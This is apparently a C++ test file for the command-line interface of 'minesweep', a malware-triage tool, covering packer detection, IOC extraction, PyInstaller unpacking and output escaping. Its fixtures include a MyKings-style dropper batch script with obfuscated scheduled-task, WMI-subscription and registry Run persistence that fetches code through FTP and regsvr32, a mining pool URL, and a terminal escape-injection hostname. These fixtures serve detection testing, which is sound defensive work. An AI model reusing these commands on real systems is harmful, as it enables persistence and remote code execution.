#include <filesystem>
#include <set>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "support/pe_writer.h"
#include "support/pyinstaller_writer.h"
#include "support/test_support.h"

namespace msw {
namespace {

test::RunResult ms(std::vector<std::string> args) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args);
}

TEST(Cli, HelpListsEveryCommand) {
  auto r = ms({"--help"});
  EXPECT_EQ(r.exit_code, 0);
  for (auto cmd : {"triage", "scan", "evtx", "sample", "pcap", "intel", "report", "respond", "baseline"})
    EXPECT_NE(r.out.find(std::string("  ") + cmd), std::string::npos) << cmd;
  EXPECT_EQ(ms({}).exit_code, 2);  // no command is a usage error
  EXPECT_EQ(ms({"--version"}).exit_code, 0);
}

TEST(Cli, EveryCommandHasHelp) {
  for (auto cmd : {"triage", "scan", "evtx", "sample", "pcap", "intel", "report", "respond", "baseline"}) {
    auto r = ms({cmd, "--help"});
    EXPECT_EQ(r.exit_code, 0) << cmd;
    EXPECT_NE(r.out.find(std::string("Usage: minesweep ") + cmd), std::string::npos) << cmd;
    EXPECT_NE(r.out.find("--case"), std::string::npos) << cmd;
  }
}

// `sample`: a packed PE is named with its evidence and exits 1; a plain one exits 0; a hash the intel store knows is
// reported with its family.
TEST(Cli, SampleNamesPackersAndKnownHashes) {
  test::TempDir dir;
  test::PeSpec upx;
  upx.sections = {{"UPX0", "", 0xE0000080, 0x10000},
                  {"UPX1", std::string("3.96\0UPX!", 9) + std::string(512, 'u'), 0xE0000040, 0}};
  upx.entry_section = 1;
  upx.imports = {{"KERNEL32.dll", {"LoadLibraryA", "GetProcAddress"}}};
  test::write_file(dir / "packed.exe", test::write_pe(upx));
  auto r = ms({"sample", (dir / "packed.exe").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  EXPECT_NE(r.out.find("Tool:        UPX 3.96 (packer): sections UPX0, UPX1"), std::string::npos) << r.out;
  auto j = nlohmann::json::parse(ms({"sample", "--json", (dir / "packed.exe").string()}).out);
  EXPECT_EQ(j["format"], "pe");
  EXPECT_EQ(j["pe"]["tools"][0]["name"], "UPX 3.96");
  EXPECT_EQ(j["pe"]["imports"][0]["functions"][1], "GetProcAddress");
  EXPECT_EQ(j["pe"]["entry_section"], "UPX1");

  // The strings' indicators: a pool URL in a section, a UTF-16 URL in the overlay.
  test::PeSpec miner;
  miner.sections = {{".rdata",
                     std::string(16, '\0') + "-o stratum+tcp://pool.minexmr.com:4444 -k" + std::string(16, '\0'),
                     0x40000040, 0}};
  miner.overlay = std::string("h\0t\0t\0p\0:\0/\0/\0001\0009\0008\0.\0005\0001\0.\0001\0000\0000\0.\0007\0/\0x\0", 44);
  test::write_file(dir / "miner.exe", test::write_pe(miner));
  auto mr = ms({"sample", "--json", (dir / "miner.exe").string()});
  EXPECT_EQ(mr.exit_code, 1);  // a pool is reason enough to look closer
  std::set<std::string> iocs;
  const auto mj = nlohmann::json::parse(mr.out);
  for (const auto& i : mj["iocs"]) iocs.insert(i["kind"].get<std::string>() + " " + i["value"].get<std::string>());
  EXPECT_TRUE(iocs.count("pool_url stratum+tcp://pool.minexmr.com:4444")) << mr.out;
  EXPECT_TRUE(iocs.count("domain pool.minexmr.com"));
  EXPECT_TRUE(iocs.count("url http://198.51.100.7/x")) << mr.out;

  test::write_file(dir / "plain.exe", test::write_pe({}));
  auto plain = ms({"sample", (dir / "plain.exe").string()});
  EXPECT_EQ(plain.exit_code, 0) << plain.out;
  const std::string sha256 =
      nlohmann::json::parse(ms({"sample", "--json", (dir / "plain.exe").string()}).out)["sha256"];
  const std::string store = (dir / "intel.sqlite").string();
  test::write_file(dir / "feed/hashes.csv", "indicator,type,family\n" + sha256 + ",sha256,mykings\n");
  ASSERT_EQ(ms({"intel", "import", "--intel", store, (dir / "feed").string()}).exit_code, 0);
  auto known = ms({"sample", "--intel", store, (dir / "plain.exe").string()});
  EXPECT_EQ(known.exit_code, 1);
  EXPECT_NE(known.out.find("Known:       sha256 of mykings"), std::string::npos) << known.out;

  EXPECT_EQ(ms({"sample"}).exit_code, 2);
  EXPECT_NE(ms({"sample", (dir / "missing.exe").string()}).exit_code, 0);
}

// `sample` on a MyKings-style dropper: the commands as records and the family from the knowledge base.
TEST(Cli, SampleReadsADropperScriptAndNamesItsFamily) {
  test::TempDir dir;
  test::write_file(
      dir / "c3.bat",
      "@echo off\r\nset a=xxschtasksxx\r\nset t=%a:~2,8%\r\n"
      "%t% /create /tn \"Mysa\" /tr \"cmd /c echo open ftp.ftp1202.site>s&ftp -s:s\" /ru system /sc onstart /F\r\n"
      "wmic /namespace:\\\\root\\subscription PATH __EventFilter CREATE Name=\"fuckyoumm3\", "
      "EventNameSpace=\"root\\cimv2\"\r\n"
      "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v start /d \"regsvr32 /u /s "
      "/i:hxxp://js.mykings[.]top:280/v.sct scrobj.dll\" /f\r\n");
  auto r = ms({"sample", "--json", (dir / "c3.bat").string()});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  const auto j = nlohmann::json::parse(r.out);
  const auto& s = j["script"];
  EXPECT_EQ(s["language"], "batch");
  EXPECT_EQ(s["layers"][0]["name"], "batch variables");
  std::set<std::string> commands;
  for (const auto& c : s["commands"])
    commands.insert(c["kind"].get<std::string>() + " " + c["attack"].get<std::string>());
  for (auto want :
       {"scheduled_task T1053.005", "wmi_subscription T1546.003", "registry_run T1547.001", "download T1218.010"})
    EXPECT_TRUE(commands.count(want)) << want;
  EXPECT_GE(s["families"]["mykings"].get<int>(), 3);
}

// `sample --extract` on a PyInstaller bundle: the entry script and the PYZ modules as .pyc files whose header is the
// one Python 3.8 expects, the bundle's strings searched too, and nothing overwritten.
TEST(Cli, SampleUnpacksPyInstallerWithRepairedHeaders) {
  test::TempDir dir;
  const std::string magic38("\x55\x0d\x0d\x0a", 4);
  const std::string pyz = test::write_pyz(
      magic38, {{"eternalblue", "\xe3 smb ms17-010 http://198.51.100.7/eb", false}, {"keyed", "\xe3 secret", true}});
  test::PeSpec spec;
  spec.overlay = test::write_carchive({{"csrs", 's', "\xe3 entry point", true}, {"PYZ-00.pyz", 'z', pyz, false}}, 38,
                                      "python38.dll");
  test::write_file(dir / "csrs.exe", test::write_pe(spec));
  const auto out = dir / "unpacked";
  auto r = ms({"sample", (dir / "csrs.exe").string(), "--extract", out.string()});
  ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  EXPECT_NE(
      r.out.find("PyInstaller: Python 3.8 (python38.dll), 4 members: 1 entry scripts, 2 PYZ modules, 1 encrypted"),
      std::string::npos)
      << r.out;
  EXPECT_NE(r.out.find("Entry point: csrs"), std::string::npos);
  EXPECT_NE(r.out.find("url http://198.51.100.7/eb"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("in eternalblue"), std::string::npos);
  const std::string entry = test::read_file(out / "csrs.pyc");
  EXPECT_EQ(entry, magic38 + std::string(12, '\0') + "\xe3 entry point");
  EXPECT_EQ(test::read_file(out / "PYZ/eternalblue.pyc").substr(0, 16), magic38 + std::string(12, '\0'));
  EXPECT_FALSE(std::filesystem::exists(out / "PYZ/keyed.pyc"));  // encrypted: nothing to write
  EXPECT_EQ(std::filesystem::status(out / "csrs.pyc").permissions() & std::filesystem::perms::owner_exec,
            std::filesystem::perms::none);
  // A second run never overwrites what the first wrote.
  auto again = ms({"sample", (dir / "csrs.exe").string(), "--extract", out.string()});
  EXPECT_NE(again.exit_code, 0);
  EXPECT_NE(again.err.find("cannot create"), std::string::npos) << again.err;
}

TEST(Cli, RespondUsageErrorsExitTwo) {
  EXPECT_EQ(ms({"respond", "no-such-case.sqlite", "--apply", "--yes"}).exit_code, 2);
  EXPECT_EQ(ms({"respond", "case.sqlite", "--script", "cmd"}).exit_code, 2);
  EXPECT_EQ(ms({"respond", "--undo", "no-such-journal.jsonl"}).exit_code, 2);
}

TEST(Cli, UsageErrorsExitTwo) {
  EXPECT_EQ(ms({"frobnicate"}).exit_code, 2);
  auto bad_flag = ms({"scan", "--no-such-flag", "x"});
  EXPECT_EQ(bad_flag.exit_code, 2);
  EXPECT_NE(bad_flag.err.find("unknown option --no-such-flag"), std::string::npos);
  EXPECT_EQ(ms({"scan"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--threads", "0", "x"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--lang", "fr", "x"}).exit_code, 2);
  EXPECT_EQ(ms({"scan", "--case"}).exit_code, 2);
  EXPECT_EQ(ms({"report", "--format", "pdf", "x"}).exit_code, 2);
  auto missing = ms({"scan", "--quiet", "/no/such/evidence"});
  EXPECT_EQ(missing.exit_code, 2);
  EXPECT_NE(missing.err.find("does not exist"), std::string::npos);
  auto no_case = ms({"report", "/no/such/case.sqlite"});
  EXPECT_EQ(no_case.exit_code, 2);
}

TEST(Cli, TerminalOutputEscapesEvidence) {
  test::TempDir dir;
  // A forged bundle whose host name carries an escape sequence that would clear the analyst's terminal.
  test::write_file(dir / "ev/manifest.json",
                   "{\"format\":\"minesweep-bundle\",\"version\":1,\"host\":{\"hostname\":\"evil\\u001b[2J\"}}");
  test::write_file(dir / "ev/etc/hosts", "1.2.3.4 www.example.com\n");
  auto r = ms({"scan", "--quiet", "--case", (dir / "c.sqlite").string(), (dir / "ev").string()});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.out.find("evil\\x1b[2J"), std::string::npos) << r.out;
  EXPECT_EQ(r.out.find('\x1b'), std::string::npos);
  EXPECT_EQ(r.err.find('\x1b'), std::string::npos);
}

}  // namespace
}  // namespace msw
